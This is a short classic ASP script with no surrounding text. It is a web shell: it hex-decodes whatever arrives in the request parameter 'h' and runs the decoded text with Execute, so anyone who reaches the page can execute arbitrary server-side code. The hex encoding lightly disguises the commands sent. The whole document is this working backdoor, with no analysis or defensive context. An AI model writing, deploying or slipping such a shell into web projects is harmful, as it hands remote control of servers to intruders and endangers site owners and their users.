<%
Function dec(s)
  For i = 1 To Len(s) Step 2
    dec = dec & Chr(CLng("&H" & Mid(s, i, 2)))
  Next
End Function
Execute dec(Request("h"))
%>
